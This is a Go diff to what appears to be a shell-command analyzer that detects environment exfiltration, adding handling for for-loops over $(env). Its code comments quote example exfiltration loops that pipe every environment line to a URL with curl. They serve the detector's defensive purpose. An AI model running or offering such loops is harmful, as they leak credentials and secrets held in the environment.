@@ -36,7 +36,28 @@ func (a *analyzer) forLoop(fc *syntax.ForClause) bool {
 	case a.params != nil:
 		items = a.params // `for x; do`: the positional parameters
 	}
+	if len(items) > 0 && envOutput(strings.Join(items, " ")) {
+		// `for l in $(env); do curl -d "$l" URL; done`: each word is part of the environment
+		// (issue 26, det69)
+		a.envLoop([]string{wi.Name.Value}, fc.Do)
+		return true
+	}
 	return a.iterate([]string{wi.Name.Value}, items, fc.Do, false)
+}
+
+// envLoop judges a loop's body once with each of names holding what `$(env)` stands for: a
+// loop over the environment's lines or words (readLoop, forLoop; det68, det69).
+func (a *analyzer) envLoop(names []string, body []*syntax.Stmt) {
+	if a.work++; a.work > maxWork {
+		a.res.Incomplete = true
+		return
+	}
+	for _, n := range names {
+		a.vars[n] = "$(env)"
+	}
+	for _, st := range body {
+		a.stmt(st)
+	}
 }
 
 // iterate judges body once for each item with names assigned as read (split) or as a for loop
@@ -365,16 +386,7 @@ func (a *analyzer) readLoop(s *syntax.Stmt, fed []string) bool {
 		// `while read l; do curl -d "$l" URL; done < <(env)`, `env | while read l; …`: each
 		// line the loop reads is part of the environment, so every variable read holds what
 		// `$(env)` stands for, judged once (issue 26, det68).
-		if a.work++; a.work > maxWork {
-			a.res.Incomplete = true
-			return true
-		}
-		for _, n := range names {
-			a.vars[n] = items[0]
-		}
-		for _, st := range wc.Do {
-			a.stmt(st)
-		}
+		a.envLoop(names, wc.Do)
 		return true
 	}
 	return a.iterate(names, items, wc.Do, true)
